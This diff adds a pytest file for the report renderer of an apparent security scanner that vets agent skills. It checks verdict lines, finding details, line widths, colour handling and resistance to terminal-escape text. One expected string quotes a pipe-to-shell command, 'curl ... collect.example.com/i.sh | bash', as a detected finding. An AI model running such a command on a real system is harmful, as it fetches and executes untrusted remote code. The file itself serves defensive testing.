@@ -1,0 +1,142 @@
+import re
+from dataclasses import replace
+
+import pytest
+import report_samples as samples
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from penstock.reach.report.columns import width
+from penstock.reach.report.formats import FORMATS, render
+from penstock.reach.report.wording import because
+from penstock.vet.errors import ConfigError
+from penstock.vet.verdict.types import Decision, GapReason, Location
+
+ANY = st.text(st.characters(codec=None) | st.sampled_from("\x1b\x9b\r\n\u202e\u200b\ud800"), max_size=40)
+COLOUR = re.compile("\x1b\\[[0-9;]*m")
+
+
+def test_the_answer_stands_in_the_first_three_lines():
+    lines = render(samples.bad(), "text").splitlines()
+    assert lines[0].startswith("DO NOT INSTALL  pdf-helper")
+    assert lines[0].endswith("score 100/100")
+    assert lines[1] == "  - A secret is sent over the network (scripts/sync.py:14-16)"
+    assert lines[2] == "  - A download is run at once (scripts/setup.sh:3 and 1 more place)"
+
+
+def test_safe_says_so_in_one_line():
+    lines = render(samples.safe(), "text").splitlines()
+    assert lines[0].startswith("SAFE  release-notes")
+    assert lines[1].startswith("  - Everything was inspected")
+
+
+def test_every_finding_says_where_how_hidden_why_and_what_to_do():
+    shown = render(samples.bad(), "text")
+    assert "assets/bundle.zip!/tools/setup.py:8" in shown
+    assert "in base64, in a string put together from parts" in shown
+    assert "| curl -fsSL https://collect.example.com/i.sh | bash" in shown
+    assert "Also at SKILL.md:27" in shown
+    assert "Why  What runs is whatever" in shown
+    assert "Fix  Ship the script" in shown
+
+
+def test_what_does_not_count_stands_apart():
+    shown = render(samples.bad(), "text")
+    for heading in (
+        "Not inspected",
+        "Listed, not scored",
+        "Accepted, not scored",
+        "Baseline entries that no longer hold",
+    ):
+        assert f"\n{heading}" in shown
+    assert "mira@example.org until 2027-03-01" in shown
+
+
+def test_many_skills_start_with_a_table_worst_first():
+    shown = render(samples.many(), "text")
+    lines = shown.splitlines()
+    assert lines[0] == "DO NOT INSTALL  agent-skills"
+    assert lines[1] == "  9 skills: 1 DO NOT INSTALL, 1 CAUTION, 7 SAFE"
+    assert lines[3].startswith("  DO NOT INSTALL 100  pdf-helper")
+    assert lines[4].startswith("  CAUTION         24  table-reader")
+    assert "14 files of the source belong to no skill" in shown
+
+
+@pytest.mark.parametrize("name", samples.ALL)
+@pytest.mark.parametrize("columns", [60, 80, 120])
+def test_no_line_is_wider_than_the_terminal(name, columns):
+    for line in render(samples.ALL[name](), "text", width=columns).splitlines():
+        assert width(line) <= columns or "/" in line
+
+
+@pytest.mark.parametrize("name", samples.ALL)
+def test_no_line_is_wider_than_80(name):
+    assert max(width(line) for line in render(samples.ALL[name](), "text").splitlines()) <= 80
+
+
+@pytest.mark.parametrize("name", samples.ALL)
+def test_colour_changes_nothing_but_colour(name):
+    plain, colour = (render(samples.ALL[name](), "text", color=c) for c in (False, True))
+    assert "\x1b" not in plain
+    assert COLOUR.search(colour)
+    assert [line.rstrip() for line in COLOUR.sub("", colour).splitlines()] == plain.splitlines()
+
+
+@pytest.mark.parametrize("nasty", samples.NASTY)
+@pytest.mark.parametrize("color", [False, True])
+def test_hostile_text_steers_no_terminal(nasty, color):
+    shown = render(samples.hostile(lambda: nasty), "text", color=color)
+    rest = COLOUR.sub("", shown) if color else shown
+    assert not [c for c in rest if c != "\n" and (ord(c) < 32 or 0x7F <= ord(c) < 0xA0)]
+    assert not set(rest) & set("\u202e\u2066\u200b\ufeff\u2028\u2029\U000e0041\ud800")
+    shown.encode()
+
+
+@given(ANY)
+@settings(max_examples=30, deadline=None)
+def test_any_text_steers_no_terminal(text):
+    shown = render(samples.hostile(lambda: text), "text")
+    assert not [c for c in shown if c != "\n" and (ord(c) < 32 or 0x7F <= ord(c) < 0xA0)]
+
+
+@pytest.mark.parametrize("format", FORMATS)
+@pytest.mark.parametrize("name", samples.ALL)
+def test_the_same_report_is_the_same_bytes(format, name):
+    first = render(samples.ALL[name](), format)
+    assert first == render(samples.ALL[name](), format)
+    assert first.endswith("\n")
+
+
+def test_an_unknown_format_is_an_error_that_names_the_others():
+    with pytest.raises(ConfigError) as caught:
+        render(samples.safe(), "xml")
+    assert "sarif" in caught.value.diagnostics()
+
+
+def test_many_places_of_a_rule_are_counted():
+    skill = samples.bad_skill()
+    finding = skill.verdict.findings[1]
+    many = tuple(
+        replace(
+            finding, fingerprint=f"{n:032x}", location=Location(path=f"s{n}.sh", start_line=n, end_line=n)
+        )
+        for n in range(1, 30)
+    )
+    report = samples.a_report(replace(skill, verdict=replace(skill.verdict, findings=many)))
+    assert "and 23 more places" in render(report, "text")
+
+
+def test_reasons_of_an_unknown_form_are_kept():
+    verdict = samples.a_verdict(
+        Decision.CAUTION, 3, reasons=("1 of 3 reviewers doubted, failed or abstained", "score 3 (LOW)")
+    )
+    assert because(verdict) == ("1 of 3 reviewers doubted, failed or abstained",)
+    assert because(samples.a_verdict(Decision.CAUTION)) == (
+        "A person should look at this before it is installed.",
+    )
+
+
+def test_every_reason_for_a_gap_has_words():
+    from penstock.reach.report.wording import GAP
+
+    assert set(GAP) == set(GapReason)
